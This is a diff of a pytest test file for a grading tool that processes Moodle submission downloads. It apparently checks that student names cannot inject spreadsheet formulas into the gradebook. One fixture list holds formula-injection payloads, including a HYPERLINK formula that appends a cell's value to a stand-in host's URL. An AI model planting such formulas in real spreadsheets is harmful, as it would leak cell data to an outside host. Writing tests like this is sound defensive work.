@@ -20,8 +20,7 @@ import pytest
 from grader.classpage import gradebook
 from grader.lms.moodle import PARTICIPANT as MOODLE_PARTICIPANT
 
-from .conftest import run_grader
-from .lms_downloads import CORRECT, write_folder
+from .corpora.lms_downloads import CORRECT, write_folder
 
 FORMULAS = ["=alice", "+SUM(1;2)", "-2+3", "@SUM(A1)", '=HYPERLINK("x.test?q="+A1;"nota")', "\uff1dSUM(1)"]
 TWINS = ["José Nfc", "Jose\u0301 Nfc"]  # composed and decomposed: one file name on macOS or an SMB share
@@ -39,7 +38,7 @@ def name_key(name: str) -> str:
 
 
 @pytest.fixture(scope="module")
-def graded(tmp_path_factory):
+def graded(run_grader, tmp_path_factory):
     tmp = tmp_path_factory.mktemp("round4")
     members = {f"{name}_{pid}_assignsubmission_file_/atencao.py": CORRECT for pid, name in STUDENTS.items()}
     folder = write_folder(tmp / "download", {**members, **LEFTOVERS})
